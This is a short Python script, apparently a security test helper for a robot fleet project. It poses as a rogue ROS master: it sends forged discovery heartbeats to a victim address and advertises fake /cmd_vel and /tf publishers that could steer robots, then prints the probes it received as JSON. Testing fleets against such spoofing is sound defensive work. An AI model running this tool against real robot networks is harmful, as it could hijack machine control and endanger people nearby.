# SPDX-FileCopyrightText: rosfleet contributors
# SPDX-License-Identifier: GPL-3.0-or-later

"""A master that belongs to no fleet: rogue.py OWN_ADDRESS VICTIM URI NAME SECONDS. Prints the questions that it got, as JSON.

VICTIM is an address, or the group. It offers topics that would steer a robot: publishers of /cmd_vel and /tf, and a service.
"""

import json
import socket
import struct
import sys
import threading
import time
from xmlrpc.server import SimpleXMLRPCRequestHandler, SimpleXMLRPCServer

own, victim, uri, name, seconds = sys.argv[1:]
PORT, RPC = 11511, 11711
TOPICS = {"/cmd_vel": "geometry_msgs/Twist", "/tf": "tf2_msgs/TFMessage", "/rogue/cmd_vel": "geometry_msgs/Twist"}
seen = {"connections": 0, "methods": [], "answers": 0}


class Server(SimpleXMLRPCServer):
    def verify_request(self, request, client_address):
        seen["connections"] += 1
        return True

    def _dispatch(self, method, params):
        seen["methods"].append(method)
        if method == "masterContacts":
            return ["5.000000000", uri, name, "/master_discovery", f"http://{own}:{RPC}/"]
        nodes = [["/rogue", f"http://{own}:40000/", uri, 1, "local"]]
        topics = [[topic, ["/rogue"]] for topic in TOPICS]
        services = [["/rogue/stop", ["/rogue"]]]
        providers = [["/rogue/stop", f"rosrpc://{own}:40001", uri, "std_srvs/Empty", "local"]]
        return ["5.000000000", "5.000000000", uri, name, topics, [], services, list(TOPICS.items()), nodes, providers]


server = Server((own, RPC), SimpleXMLRPCRequestHandler, logRequests=False)
threading.Thread(target=server.serve_forever, daemon=True).start()
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sender.bind((own, PORT))
    sender.setblocking(False)
    until = time.monotonic() + float(seconds)
    while time.monotonic() < until:
        for version, stamp in ((2, 5), (3, 0)):  # a heartbeat, and a request
            record = struct.pack("<cBBxiiHxxii", b"R", version, 10, stamp, 0, RPC, stamp, 0)
            sender.sendto(record, (victim, PORT))
        time.sleep(0.1)
        try:
            sender.recv(2048)
            seen["answers"] += 1
        except BlockingIOError:
            pass
print(json.dumps(seen))
